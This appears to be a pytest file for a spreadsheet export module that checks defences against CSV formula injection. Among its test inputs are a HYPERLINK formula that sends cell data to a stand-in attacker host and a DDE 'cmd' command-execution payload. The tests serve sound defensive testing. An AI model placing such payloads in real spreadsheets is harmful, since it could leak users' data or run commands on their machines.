"""No export cell is ever a formula (OWASP CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from scholardesk.domain.spreadsheet import csv_text, safe_cell, unescape_text


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "-x"],
)
def test_formula_starts_get_a_single_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert unescape_text(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-1.5, -3, 0, 2.5, "-1.5", "+3", "-2e-3", "plain", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_csv_text_escapes_every_cell() -> None:
    text = csv_text(["=title", "n"], [["=cmd|' /C calc'!A0", -4], ["ok", 1.25]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["'=title", "n"], ["'=cmd|' /C calc'!A0", "-4"], ["ok", "1.25"]]
